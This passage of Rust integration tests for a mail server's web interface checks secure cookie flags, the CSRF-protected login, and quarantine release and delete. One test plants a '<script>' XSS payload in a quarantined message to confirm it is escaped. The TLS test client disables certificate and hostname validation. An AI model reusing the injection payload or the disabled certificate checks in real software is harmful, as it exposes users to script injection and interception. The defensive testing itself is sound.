        .danger_accept_invalid_certs(true)
        .danger_accept_invalid_hostnames(true)
        .connect("zolder.test", tcp)
        .await
        .unwrap();
    s.write_all(req).await.unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out).await;
    String::from_utf8_lossy(&out).into_owned()
}

#[tokio::test]
async fn https_listener_sets_secure_cookies() {
    let dir = tempfile::tempdir().unwrap();
    let srv = builder(dir.path()).listen("webs").start().await;
    let addr = srv.addr("webs");
    let running = srv.running;
    let page = tls_get(
        addr,
        b"GET / HTTP/1.1\r\nHost: zolder.test\r\nConnection: close\r\n\r\n",
    )
    .await;
    assert!(page.starts_with("HTTP/1.1 200"), "{page}");
    let set = page
        .lines()
        .find(|l| {
            l.to_ascii_lowercase()
                .starts_with("set-cookie: zolder_login=")
        })
        .unwrap();
    assert!(
        set.contains("; Secure") && set.contains("HttpOnly"),
        "{set}"
    );
    let nonce = set
        .split_once(": ")
        .unwrap()
        .1
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let i = page.find("name=\"csrf\" value=\"").unwrap() + 19;
    let csrf = &page[i..i + 64];
    let body = form(&[("user", "bouke"), ("password", "geheim"), ("csrf", csrf)]);
    let req = format!(
        "POST /login HTTP/1.1\r\nHost: zolder.test\r\nConnection: close\r\nCookie: {nonce}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{}",
        body.len(),
        String::from_utf8_lossy(&body)
    );
    let r = tls_get(addr, req.as_bytes()).await;
    assert!(r.starts_with("HTTP/1.1 303"), "{r}");
    let sess = r
        .lines()
        .find(|l| {
            l.to_ascii_lowercase()
                .starts_with("set-cookie: zolder_session=")
        })
        .unwrap();
    assert!(
        sess.contains("; Secure") && sess.contains("SameSite=Strict"),
        "{sess}"
    );
    running.shutdown().await;
}

#[tokio::test]
async fn admin_shows_releases_and_deletes_quarantined_mail() {
    let w = start().await;
    let (c, csrf) = w.login("bouke").await;
    let q = zolder::deliver::quarantine::Quarantine::new(&w.running.ctx.config.data_dir);
    let hold = |subject: &str| {
        let inc = zolder::message::Incoming {
            envelope: zolder::message::Envelope::new(
                Some("x@evil.example".into()),
                vec!["anna@zolder.test".into()],
                zolder::message::Source::Local { user: "t".into() },
            ),
            message: zolder::message::RawMessage::new(
                format!(
                    "From: <x@evil.example>\r\nSubject: {subject}\r\n\r\n<script>bad()</script>\r\n"
                )
                .into_bytes(),
            ),
        };
        let notice = zolder::deliver::quarantine::NoticeSettings {
            hostname: "zolder.test".into(),
            domain: "zolder.test".into(),
            postmaster: "bouke".into(),
            notify_recipients: false,
        };
        let v = zolder::deliver::scan::Verdict::Infected("Test.EICAR".into());
        q.hold(&w.db(), &inc, "clamd", &v, &notice).unwrap().id
    };
    let (a, b) = (hold("first"), hold("second"));
    let page = w.get("/admin", &c).await.text();
    assert!(
        page.contains(&format!("href=\"/admin/quarantine/{a}\"")) && page.contains("Test.EICAR"),
        "{page}"
    );
    // Shown as escaped text, never rendered.
    let show = w.get(&format!("/admin/quarantine/{a}"), &c).await.text();
    assert!(
        show.contains("&lt;script&gt;bad()") && !show.contains("<script>"),
        "{show}"
    );
    // Release: delivered to anna (with the scanner that held it skipped).
    let r = w
        .post(
            "/admin/quarantine",
            &c,
            &[("csrf", &csrf), ("op", "release"), ("id", &a.to_string())],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.text());
    assert_eq!(w.count("anna", "INBOX"), 1);
    // Delete: gone.
    let r = w
        .post(
            "/admin/quarantine",
            &c,
            &[("csrf", &csrf), ("op", "delete"), ("id", &b.to_string())],
        )
        .await;
    assert_eq!(r.status, 303);
    assert_eq!(
        w.get(&format!("/admin/quarantine/{b}"), &c).await.status,
        404
    );
    assert_eq!(
        w.post(
            "/admin/quarantine",
            &c,
            &[("csrf", "x"), ("op", "delete"), ("id", &a.to_string())]
        )
        .await
        .status,
        403
    );
    w.running.shutdown().await;
}
